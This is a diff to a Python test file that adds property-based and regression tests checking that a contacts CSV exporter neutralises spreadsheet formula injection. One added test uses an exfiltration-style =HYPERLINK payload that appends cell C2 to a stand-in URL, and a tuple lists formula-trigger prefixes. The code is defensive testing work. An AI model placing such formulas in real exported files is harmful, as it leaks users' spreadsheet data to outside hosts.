@@ -37,7 +37,7 @@ from resolvers.imports import import_contacts
 from tests.programs import run
 from tests.support import DrivenClock, new_account, running_services
 
-CHOICES = ["Red", "Blue; or green", 'So "called"', '"', "a|b"]
+CHOICES = ["Red", "=1+1", "Blue; or green", 'So "called"', '"', "a|b"]
 KINDS = {
     FieldType.TEXT: "plan",
     FieldType.LONG_TEXT: "email",  # a key that is also the name of a field that every contact has
@@ -102,6 +102,8 @@ FIELDS = st.fixed_dictionaries(
         "custom_fields": CUSTOM,
     }
 )
+ENTRY = st.text(st.sampled_from('ab;|" \n=') | st.characters(exclude_categories=["Cs"]), max_size=6).map(str.strip).filter(bool)
+FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
 TAG = st.sampled_from(["Client", "a;b", "a|b", '"q"', "=1+1", "x, y", "'", "two\nlines", "1"])
 
 
@@ -210,15 +212,32 @@ async def test_what_is_exported_is_imported_here_without_a_change_and_elsewhere_
         assert await _seen(there) == await _seen(here)
 
 
-@given(st.lists(st.text(st.sampled_from('ab;|" \n=') | st.characters(exclude_categories=["Cs"]), max_size=6).map(str.strip).filter(bool)))
+@given(st.lists(ENTRY))
 def test_entries_of_a_cell_come_apart_as_they_were_joined(entries: list[str]) -> None:
     assert entries_of(joined(entries)) == entries
+
+
+@given(st.lists(st.sampled_from([text for text in map(str.strip, NASTY) if text]) | ENTRY, min_size=1))
+def test_no_list_is_a_formula_and_neither_is_any_of_its_entries(entries: list[str]) -> None:
+    assert entries_of(joined(entries)) == entries
+    for cell in (joined(entries), *(joined([entry]) for entry in entries)):
+        assert not cell.startswith(FORMULAS)
 
 
 @given(st.text() | st.sampled_from(NASTY))
 def test_no_text_is_a_formula_and_each_comes_back(text: str) -> None:
     assert unshielded(shielded(text)) == text
     assert not shielded(text).startswith(("=", "@", "\t", "\r", "\uff1d"))
+
+
+async def test_a_tag_that_would_run_in_a_spreadsheet_is_exported_as_text(database: Database, tmp_path: Path) -> None:
+    async with exporting(database, tmp_path) as target:
+        here = await target.new_account()
+        await _create(here, Given({"email": "ann@example.com"}, ['=HYPERLINK("http://example.com/?"&C2,"x")'], is_owned=False))
+        path = await target.export(here)
+        with path.open(newline="") as stream:
+            assert [row["tags"] for row in csv.DictReader(stream)] == ['"=HYPERLINK(""http://example.com/?""&C2,""x"")"']
+        assert (await target.import_(here, path)).unchanged == 1
 
 
 # ---------------------------------------------------------------- examples
